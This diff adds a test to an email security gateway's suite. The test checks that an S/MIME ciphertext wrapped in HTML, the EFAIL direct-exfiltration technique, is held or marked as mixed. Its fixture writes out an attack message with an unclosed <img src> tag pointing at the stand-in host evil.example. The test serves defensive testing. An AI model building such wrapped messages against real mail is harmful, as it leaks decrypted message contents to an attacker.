@@ -223,6 +223,30 @@ async def test_what_was_held_and_released_is_delivered_marked(house: House, ca: 
     assert output.stage is Stage.DELIVERY
 
 
+@pytest.mark.parametrize("encrypted_part", ["hold", "deliver"])
+@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
+async def test_ciphertext_that_is_not_the_whole_stays_closed_and_is_held_if_so_configured(
+    house: House, issued: dict[str, Issued], tmp_path: Path, encrypted_part: str, cipher: str
+) -> None:
+    """The direct exfiltration of EFAIL: whoever holds a ciphertext puts HTML around it. The part is to a key of ours."""
+    house.inbound["encrypted_part"] = encrypted_part
+    part = encrypt(tmp_path, ENTITY, issued["opens"], options=(cipher,)).replace(b"MIME-Version: 1.0\r\n", b"")
+    around = (
+        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/'
+    )
+    message = as_message(around + b"\r\n--b\r\n" + part + b"\r\n--b--\r\n")
+    flowed = await house.receive(message)
+    if encrypted_part == "hold":
+        (held,) = flowed.held
+        assert held.reason is Reason.POLICY_HOLD
+        assert not flowed.outputs
+        assert not house.bodies.kept
+        flowed = await house.receive(message, stage=Stage.RELEASED)
+    _, got = only(flowed)
+    assert got.endswith(message)
+    assert "verdict=mixed" in marks_in(got)["X-Gateway-Security"]
+
+
 async def test_malformed_smime_is_held(house: House) -> None:
     message = as_message(b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB!\r\n")
     (held,) = (await house.receive(message)).held
